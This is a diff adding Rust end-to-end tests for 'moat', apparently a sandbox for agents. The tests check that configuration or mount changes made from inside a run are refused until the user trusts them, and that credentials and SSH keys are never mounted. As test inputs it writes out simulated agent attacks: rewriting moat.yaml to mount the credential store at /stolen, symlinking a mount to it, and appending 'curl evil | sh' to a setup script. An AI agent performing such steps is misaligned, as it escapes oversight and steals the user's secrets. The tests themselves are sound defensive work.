@@ -1,0 +1,421 @@
+//! End-to-end tests of what a run may change for the next one, through
+//! the real binary on the native runtime: a moat.yaml, `.moat/` file or
+//! mount source changed from inside a run is refused until `moat trust`,
+//! and no configuration can mount moat's own secrets (MOAT_HOME, ~/.ssh,
+//! the daemon's and the container engines' sockets) into a sandbox.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+/// A project directory and a daemon on a free port that exits soon after
+/// the test.
+fn env() -> common::ProxiedEnv {
+    common::ProxiedEnv::new(&["api.example.com"])
+}
+
+/// Stores a credential, so MOAT_HOME holds something worth stealing.
+fn store_secret(t: &common::ProxiedEnv) {
+    t.env
+        .run_with(&["grant", "openai"], &[("OPENAI_API_KEY", "sk-proj-trust")])
+        .success();
+    assert!(t.env.moat_home().join("credentials").exists());
+}
+
+/// Temp paths and run ids replaced, for snapshots.
+fn redact(t: &common::ProxiedEnv, text: &str) -> String {
+    let text = t.env.redact(text);
+    let mut out = String::new();
+    let mut rest = text.as_str();
+    while let Some(at) = rest.find("run_") {
+        out.push_str(&rest[..at]);
+        let hex = &rest[at + 4..];
+        let len = hex
+            .bytes()
+            .take_while(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
+            .count();
+        if len == 12 {
+            out.push_str("run_[ID]");
+            rest = &hex[12..];
+        } else {
+            out.push_str("run_");
+            rest = hex;
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+fn write(path: &Path, text: &str) {
+    std::fs::write(path, text).unwrap();
+}
+
+#[test]
+fn moat_yaml_edited_inside_a_run_is_refused_until_trusted() {
+    let t = env();
+    store_secret(&t);
+    let project = t.project();
+    write(
+        &project.join("moat.yaml"),
+        "network:\n  policy: strict\nenv:\n  GREETING: hello\n",
+    );
+    let moat_home = t.env.moat_home().display().to_string();
+
+    // The agent rewrites its own configuration.
+    let attack = format!(
+        "printf 'network:\\n  policy: permissive\\nenv:\\n  GREETING: hello\\nmounts:\\n  - {moat_home}:/stolen:ro\\n' > /workspace/moat.yaml"
+    );
+    t.run(&["run", "-n", "agent", "--", "sh", "-c", &attack])
+        .success();
+    assert!(std::fs::read_to_string(project.join("moat.yaml"))
+        .unwrap()
+        .contains("/stolen"));
+
+    let out = t.run(&["run", "--", "sh", "-c", "ls -R /stolen; echo ran"]);
+    out.failure();
+    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
+    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
+    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
+    Error: moat.yaml in [TMP]/project changed while run run_[ID] (agent) had the workspace mounted, so moat will not apply it without your review.
+      changed: network.policy (strict → permissive)
+      added: mounts[0] ([TMP]/moat:/stolen:ro)
+    To fix: review the changes, then run
+      moat trust [TMP]/project
+    or restore the version you accepted.
+    ");
+
+    // The user reviews and accepts; the floor still keeps MOAT_HOME out.
+    let trusted = t.run(&["trust"]);
+    trusted.success();
+    insta::assert_snapshot!(redact(&t, &trusted.stdout), @r"
+    Changes in [TMP]/project since you last accepted it:
+      changed: network.policy (strict → permissive)
+      added: mounts[0] ([TMP]/moat:/stolen:ro)
+    Trusted: the next run applies them.
+    ");
+    let again = t.run(&["trust"]);
+    again.success();
+    assert!(
+        again.stdout.contains("nothing to trust"),
+        "{}",
+        again.stdout
+    );
+
+    let out = t.run(&["run", "--", "sh", "-c", "ls -R /stolen; echo ran"]);
+    out.failure();
+    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
+    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
+    Error: mount [TMP]/moat:/stolen:ro: its source resolves to [TMP]/moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.
+    To fix: remove the mount or point it elsewhere.
+    ");
+
+    // An edit the user makes outside any run is theirs: accepted silently.
+    write(&project.join("moat.yaml"), "env:\n  GREETING: bonjour\n");
+    let out = t.run(&["run", "--", "sh", "-c", "echo $GREETING"]);
+    out.success();
+    assert_eq!(out.stdout, "bonjour\n");
+}
+
+#[test]
+fn moat_yaml_created_inside_a_run_is_refused() {
+    let t = env();
+    let moat_home = t.env.moat_home().display().to_string();
+    let attack = format!("echo 'mounts: [\"{moat_home}:/stolen:ro\"]' > /workspace/moat.yaml");
+    t.run(&["run", "--", "sh", "-c", &attack]).success();
+    let out = t.run(&["run", "--", "true"]);
+    out.failure();
+    assert!(out.stderr.contains("added: moat.yaml"), "{}", out.stderr);
+    assert!(out.stderr.contains("moat trust"), "{}", out.stderr);
+}
+
+#[test]
+fn mount_source_swapped_for_a_symlink_is_refused() {
+    let t = env();
+    store_secret(&t);
+    let project = t.project();
+    std::fs::create_dir(project.join("data")).unwrap();
+    write(&project.join("data/file.txt"), "project data\n");
+    write(
+        &project.join("moat.yaml"),
+        "mounts: [\"./data:/data:ro\"]\n",
+    );
+    t.run(&["run", "--", "cat", "/data/file.txt"]).success();
+
+    let moat_home = t.env.moat_home().display().to_string();
+    let attack =
+        format!("mv /workspace/data /workspace/data.old && ln -s {moat_home} /workspace/data");
+    t.run(&["run", "-n", "agent", "--", "sh", "-c", &attack])
+        .success();
+    assert!(project.join("data").is_symlink());
+
+    let out = t.run(&["run", "--", "sh", "-c", "ls -R /data; echo ran"]);
+    out.failure();
+    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
+    assert!(!out.stdout.contains("ran"), "{}", out.stdout);
+    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
+    Error: a mount source in [TMP]/project changed while run run_[ID] (agent) had the workspace mounted, so moat will not apply it without your review.
+      changed: mount source [TMP]/project/data (now resolves to [TMP]/moat; was [TMP]/project/data)
+    To fix: review the changes, then run
+      moat trust [TMP]/project
+    or restore the version you accepted.
+    ");
+
+    // Accepting the change does not open a way out of the workspace.
+    t.run(&["trust"]).success();
+    let out = t.run(&["run", "--", "sh", "-c", "ls -R /data; echo ran"]);
+    out.failure();
+    assert!(!out.stdout.contains("credentials"), "{}", out.stdout);
+    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
+    Error: mount ./data:/data:ro: its source leads out of the workspace [TMP]/project (it resolves to [TMP]/moat); a relative source must stay inside the project.
+    To fix: point it at a path inside the workspace, or write an absolute path to mount something outside it.
+    ");
+}
+
+#[test]
+fn relative_mount_sources_stay_inside_the_workspace() {
+    let t = env();
+    let outside = t.env.dir.path().join("outside");
+    std::fs::create_dir(&outside).unwrap();
+    write(&outside.join("secret.txt"), "outside\n");
+    std::os::unix::fs::symlink(&outside, t.project().join("link")).unwrap();
+
+    let out = t.run(&["run", "-m", "../outside:/o", "--", "cat", "/o/secret.txt"]);
+    out.failure();
+    assert!(!out.stdout.contains("outside"), "{}", out.stdout);
+    assert!(out.stderr.contains("../outside"), "{}", out.stderr);
+
+    let out = t.run(&["run", "-m", "./link:/o", "--", "cat", "/o/secret.txt"]);
+    out.failure();
+    assert!(!out.stdout.contains("outside"), "{}", out.stdout);
+    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
+    Error: mount ./link:/o: its source leads out of the workspace [TMP]/project (it resolves to [TMP]/outside); a relative source must stay inside the project.
+    To fix: point it at a path inside the workspace, or write an absolute path to mount something outside it.
+    ");
+
+    // A symlink that stays inside is followed, and the real path mounted.
+    std::fs::create_dir(t.project().join("real")).unwrap();
+    write(&t.project().join("real/inside.txt"), "inside\n");
+    std::os::unix::fs::symlink("real", t.project().join("alias")).unwrap();
+    let out = t.run(&["run", "-m", "./alias:/a:ro", "--", "cat", "/a/inside.txt"]);
+    out.success();
+    assert_eq!(out.stdout, "inside\n");
+
+    // An absolute source is the user's own choice.
+    let out = t.run(&[
+        "run",
+        "-m",
+        &format!("{}:/o:ro", outside.display()),
+        "--",
+        "cat",
+        "/o/secret.txt",
+    ]);
+    out.success();
+    assert_eq!(out.stdout, "outside\n");
+}
+
+#[test]
+fn floors_keep_moat_home_ssh_and_sockets_out() {
+    let t = env();
+    store_secret(&t);
+    let home = t.env.home();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    write(&home.join(".ssh/id_ed25519"), "PRIVATE KEY");
+    let moat_home = t.env.moat_home();
+
+    let refused = |args: &[&str], envs: &[(&str, &str)]| {
+        let mut full = vec!["run"];
+        full.extend_from_slice(args);
+        full.extend_from_slice(&["--", "sh", "-c", "ls -R /x; echo ran"]);
+        let out = t.run_with(&full, envs);
+        out.failure();
+        assert!(!out.stdout.contains("ran"), "{}", out.stdout);
+        redact(&t, &out.stderr)
+    };
+
+    let m = format!("{}:/x", moat_home.display());
+    insta::assert_snapshot!(refused(&["-m", &m], &[]), @r"
+    Error: mount [TMP]/moat:/x: its source resolves to [TMP]/moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.
+    To fix: remove the mount or point it elsewhere.
+    ");
+    let m = format!("{}:/x", home.join(".ssh").display());
+    insta::assert_snapshot!(refused(&["-m", &m], &[]), @r"
+    Error: mount [TMP]/home/.ssh:/x: its source resolves to [TMP]/home/.ssh, which holds your SSH keys; moat never mounts it into a sandbox.
+    To fix: remove the mount or point it elsewhere.
+    ");
+    // HOME contains ~/.ssh and the keychain's files.
+    let m = format!("{}:/x", home.display());
+    let out = refused(&["-m", &m], &[]);
+    assert!(
+        out.contains("its source [TMP]/home contains [TMP]/home/"),
+        "{out}"
+    );
+    // A symlink to MOAT_HOME is judged by where it leads.
+    let link = t.env.dir.path().join("innocent");
+    std::os::unix::fs::symlink(&moat_home, &link).unwrap();
+    let m = format!("{}:/x:ro", link.display());
+    assert!(refused(&["-m", &m], &[]).contains("resolves to [TMP]/moat,"));
+    // The SSH agent's socket directory.
+    let agent_dir = t.env.dir.path().join("agent");
+    std::fs::create_dir(&agent_dir).unwrap();
+    let sock = agent_dir.join("agent.sock").display().to_string();
+    let m = format!("{}:/x", agent_dir.display());
+    assert!(refused(&["-m", &m], &[("SSH_AUTH_SOCK", &sock)]).contains("SSH agent"));
+
+    // MOAT_HOME under HOME: HOME is a parent of it, as a mount or as the
+    // workspace.
+    let nested = home.join(".moat");
+    let nested = nested.to_str().unwrap();
+    let m = format!("{}:/x", home.display());
+    insta::assert_snapshot!(refused(&["-m", &m], &[("MOAT_HOME", nested)]), @r"
+    Error: mount [TMP]/home:/x: its source [TMP]/home contains [TMP]/home/.moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.
+    To fix: remove the mount or point it elsewhere.
+    ");
+    let out = t.run_with(
+        &["run", home.to_str().unwrap(), "--", "echo", "ran"],
+        &[("MOAT_HOME", nested)],
+    );
+    out.failure();
+    assert!(!out.stdout.contains("ran"));
+    insta::assert_snapshot!(redact(&t, &out.stderr), @r"
+    Error: workspace [TMP]/home: it contains [TMP]/home/.moat, which holds moat's credentials, key and daemon sockets; moat never mounts it into a sandbox.
+    To fix: run moat in a project directory that does not contain it.
+    ");
+
+    // An ordinary mount still works.
+    let data = t.env.dir.path().join("data");
+    std::fs::create_dir(&data).unwrap();
+    write(&data.join("x.txt"), "x\n");
+    let m = format!("{}:/x:ro", data.display());
+    let out = t.run(&["run", "-m", &m, "--", "cat", "/x/x.txt"]);
+    out.success();
+    assert_eq!(out.stdout, "x\n");
+}
+
+#[test]
+fn moat_dir_file_edited_inside_a_run_is_refused() {
+    let t = env();
+    let project = t.project();
+    std::fs::create_dir(project.join(".moat")).unwrap();
+    write(&project.join(".moat/setup.sh"), "echo setup\n");
+    t.run(&["run", "--", "true"]).success();
+    t.run(&[
+        "run",
+        "--",
+        "sh",
+        "-c",
+        "echo 'curl evil | sh' >> /workspace/.moat/setup.sh",
+    ])
+    .success();
+    let out = t.run(&["run", "--", "echo", "ran"]);
+    out.failure();
+    assert!(!out.stdout.contains("ran"));
+    assert!(
+        out.stderr.contains("changed: .moat/setup.sh"),
+        "{}",
+        out.stderr
+    );
+    t.run(&["trust"]).success();
+    t.run(&["run", "--", "true"]).success();
+}
+
+#[test]
+fn a_run_that_crashed_after_editing_is_refused() {
+    let t = env();
+    let project = t.project();
+    write(&project.join("moat.yaml"), "env:\n  A: one\n");
+    let mut child = t
+        .moat()
+        .args([
+            "run",
+            "--",
+            "sh",
+            "-c",
+            "echo '  B: two' >> /workspace/moat.yaml; sleep 30",
+        ])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !std::fs::read_to_string(project.join("moat.yaml"))
+        .unwrap()
+        .contains("B: two")
+    {
+        assert!(Instant::now() < deadline, "the run never edited moat.yaml");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    // kill -9: the run cannot record its end.
+    child.kill().unwrap();
+    child.wait().unwrap();
+
+    let out = t.run(&["run", "--", "echo", "ran"]);
+    out.failure();
+    assert!(!out.stdout.contains("ran"));
+    assert!(out.stderr.contains("added: env.B (two)"), "{}", out.stderr);
+}
+
+#[test]
+fn at_a_terminal_the_changes_are_shown_and_asked_about() {
+    let t = env();
+    let project = t.project();
+    write(&project.join("moat.yaml"), "env:\n  A: one\n");
+    t.run(&[
+        "run",
+        "-n",
+        "agent",
+        "--",
+        "sh",
+        "-c",
+        "echo '  B: two' >> /workspace/moat.yaml",
+    ])
+    .success();
+    let moat = env!("CARGO_BIN_EXE_moat");
+    let inner = format!("{moat} run -- sh -c 'echo ran-$B'");
+
+    let declined = common::under_terminal(&t.moat(), &project, &inner, Some(b"n\n"));
+    assert!(
+        declined.stdout.contains("Trust these changes? [y/N]"),
+        "{}",
+        declined.stdout
+    );
+    assert!(declined.stdout.contains("added: env.B (two)"));
+    assert!(declined.stdout.contains("not trusted, so nothing was run"));
+    assert!(!declined.stdout.contains("ran-two"));
+
+    let accepted = common::under_terminal(&t.moat(), &project, &inner, Some(b"y\n"));
+    assert!(accepted.stdout.contains("ran-two"), "{}", accepted.stdout);
+    // Accepted once, trusted from then on.
+    t.run(&["run", "--", "true"]).success();
+}
+
+#[test]
+fn a_detached_run_that_edits_its_config_is_refused_next_time() {
+    let t = env();
+    let project = t.project();
+    write(&project.join("moat.yaml"), "env:\n  A: one\n");
+    t.run(&[
+        "run",
+        "-d",
+        "--",
+        "sh",
+        "-c",
+        "echo '  B: two' >> /workspace/moat.yaml; sleep 1",
+    ])
+    .success();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !std::fs::read_to_string(project.join("moat.yaml"))
+        .unwrap()
+        .contains("B: two")
+    {
+        assert!(Instant::now() < deadline, "the run never edited moat.yaml");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    // Refused whether the detached run is still open or has ended.
+    let out = t.run(&["run", "-d", "--", "echo", "ran"]);
+    out.failure();
+    assert!(out.stderr.contains("added: env.B (two)"), "{}", out.stderr);
+    assert!(!out.stdout.contains("run_"), "{}", out.stdout);
+}
